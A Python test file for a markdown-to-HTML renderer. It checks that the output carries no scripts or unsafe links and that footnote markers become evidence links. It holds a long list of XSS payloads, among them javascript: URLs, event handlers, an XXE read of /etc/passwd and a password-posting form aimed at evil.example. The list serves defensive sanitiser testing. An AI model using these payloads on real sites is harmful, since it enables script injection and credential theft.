"""Rationales as HTML: nothing runs, nothing breaks out, footnotes lead to the evidence."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from claims.publication.pure.markdown import TAGS, render
from claims.review.pure.footnotes import cited_numbers

ATTRIBUTES = {"a": {"href", "title", "rel", "class"}, "ol": {"start"}}
CITE = re.compile(r'<a class="cite" href="#evidence-(\d+)">\[(\d+)\]</a>')

PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<script>alert(1)<!-- ",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<IMG SRC=javascript:alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<html onmouseover=alert(1)>",
    "<div onclick=alert(1)>x</div>",
    "<p style=background:url(javascript:alert(1))>x</p>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=# onclick=alert(1)>x</a>",
    "<a class=cite href=javascript:alert(1)>[1]</a>",
    "<x onclick=alert(1)>x</x>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](<java script:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&#58;alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a.example/1)",
    "[x](https://a.example/ 'x\" onmouseover=alert(1) y=\"')",
    "[x](https://a.example/\" onmouseover=alert(1) \")",
    "[x](https://a.example/'onmouseover=alert(1))",
    "[<img src=x onerror=alert(1)>](https://a.example/)",
    "[`<script>alert(1)</script>`](javascript:alert(1))",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[1]: javascript:alert(1)\n\n[1]",
    "[1](javascript:alert(1))",
    "[[1]](javascript:alert(1))",
    "[1](#evidence-1\" onclick=alert(1))",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](x \"\" onerror=alert(1))",
    "<javascript:alert(1)>",
    "<https://a.example/\"onmouseover=alert(1)>",
    "<data:text/html,alert(1)>",
    "```\"><script>alert(1)</script>\nx\n```",
    "```js onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "|<script>|\n|-|\n|</td><script>alert(1)</script>|",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "*<script>*alert(1)</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "\u202e<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "{{constructor.constructor('alert(1)')()}} <b>{% debug %}</b>",
)  # fmt: skip


class Reading(HTMLParser):
    """Collects every tag with its attributes, as a browser would see them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.others: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def handle_decl(self, decl: str) -> None:
        self.others.append(decl)

    def handle_pi(self, data: str) -> None:
        self.others.append(data)


def dangers(html: str) -> list[str]:
    """Every tag, attribute, address or class that may not be there."""
    reading = Reading()
    reading.feed(html)
    reading.close()
    found = [f"not a tag: {other}" for other in reading.others]
    for tag, attributes in reading.tags:
        if tag not in TAGS:
            found.append(f"tag {tag}")
        found += [f"{tag} {name}" for name in attributes if name not in ATTRIBUTES.get(tag, set())]
        href = attributes.get("href") or ""
        scheme = re.match(r"\s*([a-z][a-z0-9+.-]*):", href, re.IGNORECASE)
        if scheme and scheme[1].lower() not in ("http", "https", "mailto"):
            found.append(f"address {href}")
        if "class" in attributes:
            if attributes["class"] != "cite" or not re.fullmatch(r"#evidence-\d+", href):
                found.append(f"class {attributes}")
        elif tag == "a" and attributes.get("rel") != "nofollow noopener":
            found.append(f"link without rel {attributes}")
    return found


def test_payloads_are_many() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(
    "around", ["{}", "text {} text [1]", "> {}", "[{}](https://a.example/)", "**{}**", "\n\n{}\n\n"]
)
def test_render_of_an_attack_is_harmless(payload: str, around: str) -> None:
    assert dangers(render(around.replace("{}", payload))) == []


def test_dangers_are_seen_where_they_are() -> None:
    assert dangers("<script>x</script>") == ["tag script"]
    assert dangers("<p onclick=x>") == ["p onclick"]
    assert dangers('<a href="javascript:x" rel="nofollow noopener">') == ["address javascript:x"]
    assert dangers('<a href="https://x">') == ["link without rel {'href': 'https://x'}"]
    assert dangers("<!-- x -->") == ["not a tag:  x "]


FRAGMENTS = st.sampled_from(
    [*PAYLOADS, "[1]", "[22]", "[", "]", "(", ")", "!", "`", "```\n", "\n", "\n\n", "> ", "- ", "# ",
     "*", "**", "_", "|", "|-|\n", "<", ">", "\"", "'", "\\", "&", "javascript:", "https://a.example/",
     "~~", "    "]
)  # fmt: skip


@given(st.lists(FRAGMENTS | st.text(max_size=5), max_size=12).map("".join))
def test_render_of_any_mixture_is_harmless(text: str) -> None:
    assert dangers(render(text)) == []


@given(st.lists(FRAGMENTS | st.text(max_size=5), max_size=12).map("".join))
def test_every_footnote_link_is_counted_among_the_cited_numbers(text: str) -> None:
    links = [(int(href), int(mark)) for href, mark in CITE.findall(render(text))]

    assert all(href == mark for href, mark in links)
    assert {mark for _, mark in links} <= set(cited_numbers(text))


@given(st.lists(st.tuples(st.sampled_from(["so it is", "and *more*", "—"]), st.integers(0, 999))))
def test_every_footnote_in_prose_becomes_a_link_in_order(parts: list[tuple[str, int]]) -> None:
    text = " ".join(f"{words} [{number}]." for words, number in parts)

    assert [int(mark) for _, mark in CITE.findall(render(text))] == [n for _, n in parts]


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("A [1].", '<p>A <a class="cite" href="#evidence-1">[1]</a>.</p>\n'),
        ("In [2019].", "<p>In [2019].</p>\n"),
        (
            "See [1].\n\n[1]: https://a.example/",
            '<p>See <a class="cite" href="#evidence-1">[1]</a>.</p>\n'
            '<p><a class="cite" href="#evidence-1">[1]</a>: https://a.example/</p>\n',
        ),
        (
            "[see [1]](https://a.example/)",
            '<p>[see <a class="cite" href="#evidence-1">[1]</a>](https://a.example/)</p>\n',
        ),
        ("`[1]`", "<p><code>[1]</code></p>\n"),
        (r"\[1]", "<p>[1]</p>\n"),
        ("[x] [ 1 ]", "<p>[x] [ 1 ]</p>\n"),
        (
            "[2](https://a.example/)",
            '<p><a href="https://a.example/" rel="nofollow noopener">2</a></p>\n',
        ),
        (
            "[x](https://a.example/ 'T')",
            '<p><a href="https://a.example/" title="T" rel="nofollow noopener">x</a></p>\n',
        ),
        ("[m](mailto:a@b.example)", '<p><a href="mailto:a@b.example" rel="nofollow noopener">m</a></p>\n'),
        ("# One", "<h3>One</h3>\n"),
        ("## Two", "<h4>Two</h4>\n"),
        ("###### Six", "<h6>Six</h6>\n"),
        ("*a* **b** ~~c~~", "<p><em>a</em> <strong>b</strong> <s>c</s></p>\n"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>\n'),
        ("> q [1]", '<blockquote>\n<p>q <a class="cite" href="#evidence-1">[1]</a></p>\n</blockquote>\n'),
        ("<b>x</b> & y", "<p>&lt;b&gt;x&lt;/b&gt; &amp; y</p>\n"),
        ("```py\n<x>\n```", "<pre><code>&lt;x&gt;\n</code></pre>\n"),
        ("", ""),
    ],
)  # fmt: skip
def test_render_of_plain_markdown(text: str, html: str) -> None:
    assert render(text) == html


def test_render_of_a_table_has_rows() -> None:
    html = render("|a|b|\n|:-|-:|\n|1|[2]|")

    assert html.count("<th>") == 2
    assert html.count("<td>") == 2
    assert CITE.findall(html) == [("2", "2")]


def test_render_of_deep_nesting_comes_to_an_end() -> None:
    for text in ("[" * 5000, ">" * 5000, "*a " * 3000, "[a](" * 3000, "[1]" * 3000, "- " * 3000):
        assert dangers(render(text)) == []
